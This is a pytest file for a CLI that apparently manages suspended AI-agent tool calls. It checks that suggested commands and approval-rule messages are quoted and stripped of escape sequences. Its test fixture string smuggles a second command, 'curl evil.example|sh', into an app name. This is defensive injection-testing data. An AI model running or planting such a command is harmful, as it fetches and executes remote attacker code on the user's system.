"""What is to be copied, and what is said while something is awaited: nothing that Redis holds gets a word of its own there."""

import pytest

from holdfast.cli import listed, show
from holdfast.cli.hints import asked_by, resolving
from holdfast.cli.options import Where
from holdfast.client import ConversationState
from holdfast.client.results import PendingCall
from holdfast.client.stack import announce
from holdfast.conversation import Status, SuspensionKind
from holdfast.conversation.records.calls import Cut, PendingView

WRITTEN = "shop:app; curl evil.example|sh\n\x1b[2K"
STANDING = {"turn_id": None, "reply": None, "error": None, "pending": [], "running": [], "seq": 1}


def test_the_commands_that_show_offers_are_quoted():
    for status in (Status.QUARANTINED, Status.GENERATING):
        state = ConversationState(**STANDING, status=status, app=WRITTEN, problem="it cannot be imported")
        shown = show.Shown(WRITTEN, state, [], now=3)
        for said in show._reasons(shown, Where()):
            assert "\x1b" not in said
            assert "\n" not in said
            assert "; curl" not in said.partition("'")[0]


def test_a_line_that_is_said_meanwhile_is_one_line(capsys):
    announce(f"the store is bound to the Ray cluster at {WRITTEN}")
    said = capsys.readouterr().err
    assert said == "the store is bound to the Ray cluster at shop:app; curl evil.example|sh\\n\\x1b[2K\n"


RULED = PendingView(
    conversation_id="c-1",
    agent="coder",
    tool_call_id="call_1",
    suspension_id="s-1",
    tool="Bash",
    kind=SuspensionKind.APPROVAL,
    created_at=1,
)


@pytest.mark.parametrize(
    ("rule", "reason", "says"),
    [
        ("pushes", "Others see it.", "asked by the rule pushes: Others see it."),
        ("Bash(git push *)", "", "asked by the rule Bash(git push *)"),
        ("", "they cannot be read", "asked because they cannot be read"),
        ("a\x1b[2Kb", "c\nd", "asked by the rule a\\x1b[2Kb: c\\nd"),
    ],
)
def test_what_a_rule_asks_is_said_by_whom_and_why(rule, reason, says, capsys):
    call = PendingCall.of(RULED.model_copy(update={"rule": rule, "rule_reason": reason}), lambda *_, **__: None)
    listed.draw([call], 2, Where())
    assert says in [line.strip() for line in capsys.readouterr().out.splitlines()]
    assert f"(It is {says})" in show._body(call, 0).plain


def test_what_no_rule_asks_says_nothing_of_rules():
    assert asked_by(PendingCall.of(RULED, lambda *_, **__: None)) == ""


def test_a_call_of_which_a_list_leaves_something_out_is_given_no_command_that_lets_it_run(capsys):
    cut = {"arguments": Cut(size_bytes=70_000, begins='{"command":"ls'), "prompt": Cut(size_bytes=5_000, begins="May it?")}
    view = RULED.model_copy(update={"decisions": ("approve", "edit", "deny", "cancel"), "cut": cut})
    call = PendingCall.of(view, lambda *_, **__: None)

    listed.draw([call], 2, Where())

    said = capsys.readouterr().out
    assert '{"command":"ls…' in said
    assert "it asks: May it?" in said
    assert "not all of it is shown here; look first: holdfast show c-1" in said
    assert not any("--approve" in line for line in resolving(call, Where()))
